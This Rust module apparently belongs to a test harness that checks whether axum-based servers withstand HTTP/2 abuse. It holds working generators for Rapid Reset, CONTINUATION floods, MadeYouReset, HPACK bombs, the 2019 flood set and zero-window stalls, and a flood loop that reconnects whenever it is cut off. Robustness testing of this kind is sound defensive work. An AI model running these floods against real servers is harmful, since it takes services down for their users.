//! The HTTP/2 attacks (on `axum`, `axum-tls`, and axum on tokio beside
//! them): cheap frames that make a server work without making a request,
//! and streams that never let a response through while the connection
//! looks alive.
//!
//! - **Frame floods**: a few connections send nothing but 13-byte
//!   WINDOW_UPDATE frames and never read, or PING frames whose answers
//!   they read. The server has no request to time out; what is checked is
//!   the well-behaved client beside them (its answered exchanges and p99).
//!   Without a cooperative budget in the runtime, one flooded connection
//!   task took a whole buffer ring of input in one poll while every other
//!   connection waited.
//! - **Rapid reset** (CVE-2023-44487): each request's HEADERS at once
//!   followed by its RST_STREAM, on new stream ids, reading what comes
//!   back. **CONTINUATION flood** (CVE-2024-27316 and kin): a HEADERS
//!   frame without END_HEADERS, then CONTINUATION frames of literal
//!   headers without end. hyper's limits (pending resets, header list
//!   size) close such a connection; it is made again at once, and the
//!   probe is judged as under the floods above.
//! - **MadeYouReset** (CVE-2025-8671): each request followed by a
//!   WINDOW_UPDATE that overflows its stream's window, which the server
//!   must reset.
//! - **HTTP/1.1 pipelining flood** (`Frames::Http1`, through the same
//!   loop): small GETs pipelined without pause, replies read.
//! - **SETTINGS flood** (CVE-2019-9515; ACKs never read), **empty DATA
//!   frames** on an open stream (CVE-2019-9518), **HPACK bomb**
//!   (CVE-2016-6581: one 4 KB dynamic-table entry named 12 000 times a
//!   block): judged as the floods above. hyper's h2 ends the last two at
//!   once (a GOAWAY after 100 empty frames; at the first block whose
//!   header list is too large), so those rows measure that defence and a
//!   flood of reconnections, not a server that lets the frames through;
//!   a "closed" count under the SETTINGS flood also counts writes that
//!   timed out because the server stopped reading.
//! - **The rest of the 2019 set** (CVE-2019-9511 data dribble: 100
//!   streams granted a byte of window at a time, so the server answers
//!   in one-byte DATA frames; 9513 PRIORITY churn; 9514 resets the server
//!   must make, never read; 9516 headers with empty names and values):
//!   judged as the floods above.
//! - **Both floods the other way**: WINDOW_UPDATEs whose connection is
//!   read, PINGs whose answers never are (the server's answers fill the
//!   socket; a connection that stops reading must not stop the others).
//! - **A full budget beside a download**: connections holding unfinished
//!   HTTP/1.1 heads fill the server's input budget while an h2 client
//!   downloads 16 MiB, granting window for each DATA frame as clients do.
//!   The download's WINDOW_UPDATEs arrive while no handler runs; charged
//!   as waiting input, they once got the download closed mid-body (and
//!   nghttp exits 0 when that happens): the bytes are counted.
//! - **Zero window answering PINGs**: streams opened with an initial
//!   window of 0 (no response byte may go), on connections that keep
//!   sending PINGs, which the server answers. They must be closed at the
//!   send timeout: a PING answer is not progress of a response.

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use super::ctx::{Ctx, Outcome};
use super::held::Held;
use super::target::{self, Conn, Target};

/// The client preface and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";

/// An HTTP/2 frame.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    f.extend([kind, flags]);
    f.extend(stream.to_be_bytes());
    f.extend(payload);
    f
}

/// `GET path` as a HEADERS frame on `stream` (HPACK: `:method GET` and
/// `:scheme http` indexed, `:path` and `:authority` literal), ending the
/// stream.
fn get(stream: u32, path: &str) -> Vec<u8> {
    let block = [
        &[0x82u8, 0x86, 0x44, path.len() as u8][..],
        path.as_bytes(),
        &[0x41, 9],
        b"localhost",
    ]
    .concat();
    frame(1, 0x5, stream, &block)
}

/// A connection that has sent the preface (over TLS with ALPN `h2`).
fn h2_conn(cx: &Ctx) -> io::Result<Conn> {
    connect_h2(cx.target, cx.addr, &h2_tls(cx))
}

/// The client's TLS settings with ALPN `h2`.
fn h2_tls(cx: &Ctx) -> Arc<rustls::ClientConfig> {
    let mut cfg = (**cx.tls).clone();
    cfg.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(cfg)
}

fn connect_h2(t: Target, addr: SocketAddr, tls: &Arc<rustls::ClientConfig>) -> io::Result<Conn> {
    let mut c = target::connect(t, addr, tls, Duration::from_secs(2))?;
    c.write_all(PREFACE)?;
    Ok(c)
}

/// Flooding connections: 4; 1 in a debug build (`cargo test`), whose
/// unoptimised harness and server would otherwise measure the debug build
/// (with 4, the probe's p99 was 0.8-1.7 s there against 0.08-0.35 s in a
/// release build). A debug build checks that the floods run and the 2 s
/// wait budget; the p99 budget is held in release builds only.
pub(super) fn flood_conns() -> usize {
    if cfg!(debug_assertions) {
        1
    } else {
        4
    }
}

/// How long a flood lasts: 20 s; the short form 6 s, and 3 s in a debug
/// build (`cargo test`, where a flood is a smoke test: see
/// [`flood_conns`]).
pub(super) fn flood_time(cx: &Ctx) -> Duration {
    Duration::from_secs(match (cx.short, cfg!(debug_assertions)) {
        (false, _) => 20,
        (true, false) => 6,
        (true, true) => 3,
    })
}

/// What a flooding connection sends next.
#[derive(Clone, Copy, Debug)]
pub(super) enum Frames {
    /// The same frame again (WINDOW_UPDATE, PING).
    Same(&'static [u8]),
    /// A GET and its RST_STREAM on each new stream.
    RapidReset,
    /// One HEADERS frame without END_HEADERS, then CONTINUATION frames.
    Continuation,
    /// A request left open (HEADERS without END_STREAM), then empty DATA
    /// frames on it (CVE-2019-9518; h2 answers 100 of them with a GOAWAY,
    /// and the flood reconnects).
    EmptyData,
    /// On each new stream, a HEADERS block that adds a 4 000-byte header
    /// to the dynamic table and names it 12 000 times (48 MB decoded;
    /// CVE-2016-6581).
    HpackBomb,
    /// Each request followed by a WINDOW_UPDATE on its stream that
    /// overflows its window (2^31 - 1 more), a stream error the server
    /// answers with RST_STREAM(FLOW_CONTROL_ERROR), keeping the
    /// connection: resets the server makes, which a limit on the client's
    /// resets does not see (CVE-2025-8671, "MadeYouReset"). (An increment
    /// of 0 is a connection error in h2: a GOAWAY.)
    MadeYouReset,
    /// CVE-2019-9511 ("data dribble"): on a connection whose streams get
    /// no window (SETTINGS_INITIAL_WINDOW_SIZE 0), 100 GETs of 16 MiB,
    /// then WINDOW_UPDATEs of 1 byte on each stream (and 100 on the
    /// connection) without end: the server's answer is one-byte DATA
    /// frames.
    DataDribble,
    /// CVE-2019-9513 ("resource loop"): PRIORITY frames, each stream made
    /// to depend on the one before, exclusively, on ever new stream ids.
    PriorityChurn,
    /// CVE-2019-9516 ("0-length headers leak"): on each new stream a
    /// HEADERS block of headers with empty names and values.
    EmptyHeaders,
    /// Not HTTP/2: small HTTP/1.1 GETs pipelined (the connection opened
    /// without the preface, with ALPN http/1.1 over TLS).
    Http1,
}

/// Frames per write.
const BATCH: usize = 16 * 1024;

impl Frames {
    /// About 16 KiB of frames; `stream` is the next stream id (1 on a new
    /// connection).
    fn next(self, stream: &mut u32) -> Vec<u8> {
        let mut out = Vec::with_capacity(BATCH + 1024);
        match self {
            Frames::Same(one) => return one.repeat(BATCH / one.len()),
            Frames::RapidReset => {
                while out.len() < BATCH {
                    out.extend(get(*stream, "/"));
                    // RST_STREAM, CANCEL.
                    out.extend(frame(3, 0, *stream, &8u32.to_be_bytes()));
                    *stream += 2;
                }
            }
            Frames::Continuation => {
                if *stream == 1 {
                    // `:method GET`, `:scheme http`, `:path /`, no END_HEADERS.
                    out.extend(frame(1, 0x1, 1, &[0x82, 0x86, 0x84]));
                    *stream = 3;
                }
                // Literal headers without indexing: `x-a: aaa...` (60 B).
                let one = [&[0x00u8, 3][..], b"x-a", &[56], &[b'a'; 56]].concat();
                while out.len() < BATCH {
                    out.extend(frame(9, 0, 1, &one.repeat(16)));
                }
            }
            Frames::EmptyData => {
                if *stream == 1 {
                    // A GET of 16 MiB whose request stays open (no
                    // END_STREAM): its response stalls at the first 64 KiB
                    // of window, so the stream stays open for the frames.
                    let mut h = get(1, "/bytes/16777216");
                    h[4] = 0x4;
                    out.extend(h);
                    *stream = 3;
                }
                out.extend(frame(0, 0, 1, &[]).repeat(BATCH / 9));
            }
            Frames::MadeYouReset => {
                while out.len() < BATCH {
                    out.extend(get(*stream, "/bytes/16384"));
                    out.extend(frame(8, 0, *stream, &0x7fff_ffffu32.to_be_bytes()));
                    *stream += 2;
                }
            }
            Frames::DataDribble => {
                const STREAMS: u32 = 100;
                if *stream == 1 {
                    // SETTINGS_INITIAL_WINDOW_SIZE = 0, then the GETs.
                    out.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
                    for i in 0..STREAMS {
                        out.extend(get(1 + 2 * i, "/bytes/16777216"));
                    }
                    *stream = 1 + 2 * STREAMS;
                }
                while out.len() < BATCH {
                    out.extend(frame(8, 0, 0, &STREAMS.to_be_bytes()));
                    for i in 0..STREAMS {
                        out.extend(frame(8, 0, 1 + 2 * i, &1u32.to_be_bytes()));
                    }
                }
            }
            Frames::PriorityChurn => {
                while out.len() < BATCH {
                    // Exclusive (the top bit) on the stream before, weight 16.
                    let dep = (stream.saturating_sub(2) | 1 << 31).to_be_bytes();
                    out.extend(frame(2, 0, *stream, &[&dep[..], &[15]].concat()));
                    *stream += 2;
                }
            }
            Frames::EmptyHeaders => {
                while out.len() < BATCH {
                    // `:method GET`, `:scheme http`, `:path /`, then
                    // literals without indexing: a new name of length 0
                    // and a value of length 0, 1 000 times.
                    let mut block = vec![0x82, 0x86, 0x84];
                    block.extend([0u8, 0, 0].repeat(1000));
                    out.extend(frame(1, 0x5, *stream, &block));
                    *stream += 2;
                }
            }
            Frames::Http1 => return target::gets(target::small_path(Target::Http), BATCH / 40),
            Frames::HpackBomb => {
                // Literal with incremental indexing, new name `x-bomb`:
                // it becomes dynamic entry 62 (0xbe) at once.
                let mut block = vec![0x82, 0x86, 0x84, 0x40, 6];
                block.extend(b"x-bomb");
                // Value length 4000: a 7-bit prefix integer (127 + 3873).
                block.extend([0x7f, 0xa1, 0x1e]);
                block.extend([b'b'; 4000]);
                block.extend([0xbe; 12_000]);
                out.extend(frame(1, 0x5, *stream, &block));
                *stream += 2;
            }
        }
        out
    }
}

/// `frames` sent back to back from 4 connections for the flood's time;
/// with `read`, whatever the server answers is read between writes. A
/// connection the server closes is made again (as an attacker would), so
/// the well-behaved client is measured under the flood all along.
pub(super) fn flood(cx: &Ctx, o: &mut Outcome, frames: Frames, read: bool) -> io::Result<()> {
    let conns = flood_conns();
    let until = Instant::now() + flood_time(cx);
    let h1 = matches!(frames, Frames::Http1);
    let (t, addr) = (cx.target, cx.addr);
    let tls = if h1 { cx.tls.clone() } else { h2_tls(cx) };
    let open = move |tls: &Arc<rustls::ClientConfig>| {
        if h1 {
            target::connect(t, addr, tls, Duration::from_secs(2))
        } else {
            connect_h2(t, addr, tls)
        }
    };
    let mut threads = Vec::new();
    for _ in 0..conns {
        let mut c = open(&tls)?;
        let tls = tls.clone();
        threads.push(std::thread::spawn(move || {
            let (mut sent, mut closed) = (0u64, 0u64);
            let mut buf = vec![0u8; 64 * 1024];
            let mut stream = 1;
            while Instant::now() < until {
                let _ = c.tcp().set_read_timeout(Some(Duration::from_millis(1)));
                let chunk = frames.next(&mut stream);
                if stream < 1 << 30 && write_then_read(&mut c, &chunk, read, &mut buf) {
                    sent += 1;
                    continue;
                }
                closed += 1;
                stream = 1;
                match open(&tls) {
                    Ok(n) => c = n,
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
            (sent, closed)
        }));
    }
    let (mut writes, mut closed) = (0, 0);
    for t in threads {
        let (b, c) = t.join().unwrap_or((0, 0));
        writes += b;
        closed += c;
    }
    o.hostile = conns;
    o.notes.push(format!(
        "{writes} writes of ~16 KiB of frames in {} s; the server closed a flooding connection {closed} times",
        flood_time(cx).as_secs()
    ));
    Ok(())
}

/// Write `chunk`, then (with `read`) read what is there; false once the
/// connection is gone.
fn write_then_read(c: &mut Conn, chunk: &[u8], read: bool, buf: &mut [u8]) -> bool {
    if c.write_all(chunk).is_err() {
        return false;
    }
    if !read {
        return true;
    }
    loop {
        match c.read(buf) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(e)
                if matches!(
                    e.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                ) =>
            {
                return true
            }
            Err(_) => return false,
        }
    }
}

/// The size of the download under a full budget.
const DOWNLOAD: usize = 16 << 20;

/// `heads` connections each holding `bytes` of an HTTP/1.1 request head
/// that never ends, then an HTTP/2 download of [`DOWNLOAD`] bytes beside
/// them. A short download, one that is not a 200, or heads that did not
/// hold `fill` bytes (within two heads) before and after it, is a
/// failure: a server with an input budget must have been made to refuse
/// input while the download ran, or the row tested nothing (a server
/// without one, axum on tokio, keeps every head).
pub(super) fn budget_download(
    cx: &Ctx,
    o: &mut Outcome,
    heads: usize,
    bytes: usize,
    fill: usize,
) -> io::Result<()> {
    let mut held = Held::new();
    let pad = vec![b'a'; bytes - 32];
    for _ in 0..heads {
        let Ok(mut c) = target::connect(cx.target, cx.addr, cx.tls, Duration::from_secs(2)) else {
            continue;
        };
        let _ = c.tcp().set_write_timeout(Some(Duration::from_millis(500)));
        // A server refuses heads past its budget: that is its right.
        if c.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Pad: ")
            .and_then(|_| c.write_all(&pad))
            .is_ok()
        {
            held.push(c);
        }
    }
    std::thread::sleep(Duration::from_millis(300));
    let mut open = || {
        held.check();
        held.len() - held.closed()
    };
    let before = open();
    let path = format!("/bytes/{DOWNLOAD}");
    let t0 = Instant::now();
    let got = download(h2_conn(cx)?, &path);
    let secs = t0.elapsed().as_secs_f64();
    let after = open();
    o.hostile = held.len();
    o.notes.push(format!(
        "{before} heads of {bytes} bytes open before the download, {after} after it ({secs:.1} s)"
    ));
    let short = fill.saturating_sub(2 * bytes) / bytes;
    if before.min(after) < short {
        o.broken.push(format!(
            "only {} heads held while the download ran (at least {short} fill the budget twice over): \
             the download was not tested beside a full budget",
            before.min(after)
        ));
    }
    match got {
        Ok(n) if n == DOWNLOAD => {}
        Ok(n) => o.broken.push(format!(
            "the h2 download ended at {n} of {DOWNLOAD} bytes beside a full input budget"
        )),
        Err((n, why)) => o.broken.push(format!(
            "the h2 download got {n} of {DOWNLOAD} bytes beside a full input budget: {why}"
        )),
    }
    Ok(())
}

/// `GET path` on `c` (its preface sent) with the default 64 KiB windows,
/// granting window back for every DATA frame (two WINDOW_UPDATEs each, as
/// most clients do) and answering SETTINGS and PINGs: the body's length
/// once the stream ends, or how far it got and why it stopped.
fn download(mut c: Conn, path: &str) -> Result<usize, (usize, String)> {
    let _ = c.tcp().set_read_timeout(Some(Duration::from_secs(10)));
    let fail = |body: usize, why: String| Err((body, why));
    if let Err(e) = c.write_all(&get(1, path)) {
        return fail(0, format!("request: {e}"));
    }
    let mut body = 0;
    loop {
        let mut head = [0u8; 9];
        if let Err(e) = c.read_exact(&mut head) {
            return fail(body, format!("read: {e}"));
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
        let mut payload = vec![0u8; len];
        if let Err(e) = c.read_exact(&mut payload) {
            return fail(body, format!("read: {e}"));
        }
        let (kind, flags) = (head[3], head[4]);
        match kind {
            0 if stream == 1 => {
                // PADDED: a pad length, then the pad at the end.
                let pad = if flags & 0x8 != 0 {
                    1 + usize::from(payload.first().copied().unwrap_or(0))
                } else {
                    0
                };
                body += len.saturating_sub(pad);
                if len > 0 {
                    let inc = (len as u32).to_be_bytes();
                    let mut wu = frame(8, 0, 0, &inc);
                    wu.extend(frame(8, 0, 1, &inc));
                    if let Err(e) = c.write_all(&wu) {
                        return fail(body, format!("WINDOW_UPDATE: {e}"));
                    }
                }
                if flags & 1 != 0 {
                    return Ok(body);
                }
            }
            // The response's HEADERS: `:status 200` is HPACK's static
            // entry 8 (0x88), which servers send first; anything else
            // (or a body-less answer) is not the download.
            1 if stream == 1 => {
                let block = if flags & 0x8 != 0 {
                    payload.get(1..).unwrap_or_default()
                } else {
                    &payload[..]
                };
                let block = if flags & 0x20 != 0 {
                    block.get(5..).unwrap_or_default()
                } else {
                    block
                };
                if block.first() != Some(&0x88) {
                    return fail(body, "the response is not a 200".into());
                }
                if flags & 1 != 0 {
                    return Ok(body);
                }
            }
            4 if flags & 1 == 0 => {
                let _ = c.write_all(&frame(4, 1, 0, &[]));
            }
            6 if flags & 1 == 0 => {
                let _ = c.write_all(&frame(6, 1, 0, &payload));
            }
            7 => return fail(body, "GOAWAY".into()),
            3 if stream == 1 => return fail(body, "RST_STREAM".into()),
            _ => {}
        }
    }
}

/// Streams with no window on connections that keep sending PINGs; they
/// must be closed within the send timeout + slack.
pub(super) fn zero_window(cx: &Ctx, o: &mut Outcome, budget: f64) -> io::Result<()> {
    let n = cx.n(20, 8);
    let mut held = Held::new();
    for _ in 0..n {
        let mut c = h2_conn(cx)?;
        // SETTINGS_INITIAL_WINDOW_SIZE = 0, then a request for 16 KiB.
        c.write_all(&frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]))?;
        c.write_all(&get(1, "/bytes/16384"))?;
        held.push(c);
    }
    held.restart_clock();
    let ping = frame(6, 0, 0, b"answerme");
    let end = Instant::now() + Duration::from_secs_f64(budget + 1.0);
    while Instant::now() < end {
        for c in held.conns_mut() {
            let _ = c.tcp().set_write_timeout(Some(Duration::from_millis(100)));
            let _ = c.write_all(&ping);
        }
        held.check();
        if held.closed() == held.len() {
            break;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    o.hostile = held.len();
    o.close_budget = Some(budget);
    o.closed = held.closed();
    o.all_closed_after = held.all_closed_after();
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_laid_out_as_rfc_9113_says() {
        let f = frame(8, 0, 0, &1u32.to_be_bytes());
        assert_eq!(f, [0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
        let g = get(1, "/x");
        assert_eq!(&g[..9], &[0, 0, 17, 1, 5, 0, 0, 0, 1]);
    }

    /// Walk `bytes` as frames: (type, flags, stream) of each.
    fn walk(mut bytes: &[u8]) -> Vec<(u8, u8, u32)> {
        let mut v = Vec::new();
        while !bytes.is_empty() {
            let len = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize;
            let stream = u32::from_be_bytes([bytes[5], bytes[6], bytes[7], bytes[8]]);
            v.push((bytes[3], bytes[4], stream));
            bytes = &bytes[9 + len..];
        }
        v
    }

    /// Whether `bytes` are frames of one (type, flags), one on each new
    /// stream from 1.
    fn one_per_new_stream(bytes: &[u8], kind: (u8, u8)) -> bool {
        let f = walk(bytes);
        f.iter()
            .enumerate()
            .all(|(i, &x)| x == (kind.0, kind.1, 1 + 2 * i as u32))
    }

    #[test]
    fn rapid_reset_resets_each_new_stream_and_continuation_never_ends() {
        let mut stream = 1;
        let f = walk(&Frames::RapidReset.next(&mut stream));
        assert!(f.len() > 100);
        for (i, pair) in f.chunks(2).enumerate() {
            let id = 1 + 2 * i as u32;
            assert_eq!(pair, [(1, 5, id), (3, 0, id)]);
        }
        let mut stream = 1;
        let first = walk(&Frames::Continuation.next(&mut stream));
        assert_eq!(first[0], (1, 1, 1), "HEADERS without END_HEADERS");
        assert!(first[1..].iter().all(|&f| f == (9, 0, 1)));
        let more = walk(&Frames::Continuation.next(&mut stream));
        assert!(more.iter().all(|&f| f == (9, 0, 1)), "no END_HEADERS, ever");
        let mut stream = 1;
        let empty = walk(&Frames::EmptyData.next(&mut stream));
        assert_eq!(empty[0], (1, 4, 1), "a request's HEADERS, its stream open");
        assert!(empty[1..].iter().all(|&f| f == (0, 0, 1)));
        let mut stream = 1;
        let f = walk(&Frames::MadeYouReset.next(&mut stream));
        for (i, pair) in f.chunks(2).enumerate() {
            let id = 1 + 2 * i as u32;
            assert_eq!(pair, [(1, 5, id), (8, 0, id)]);
        }
        let mut stream = 1;
        let first = walk(&Frames::DataDribble.next(&mut stream));
        assert_eq!(first[0], (4, 0, 0), "SETTINGS first");
        assert!(first[1..101].iter().all(|&(t, fl, _)| (t, fl) == (1, 5)));
        assert!(first[101..].iter().all(|&(t, _, _)| t == 8));
        let more = walk(&Frames::DataDribble.next(&mut stream));
        assert!(more.iter().all(|&(t, _, s)| t == 8 && s < 200));
        let mut stream = 1;
        assert!(one_per_new_stream(
            &Frames::PriorityChurn.next(&mut stream),
            (2, 0)
        ));
        let mut stream = 1;
        assert!(one_per_new_stream(
            &Frames::EmptyHeaders.next(&mut stream),
            (1, 5)
        ));
        let mut stream = 1;
        let bomb = Frames::HpackBomb.next(&mut stream);
        assert_eq!(walk(&bomb), [(1, 5, 1)]);
        assert!(bomb.len() - 9 <= 16_384, "within the default frame size");
        assert_eq!(stream, 3);
    }
}
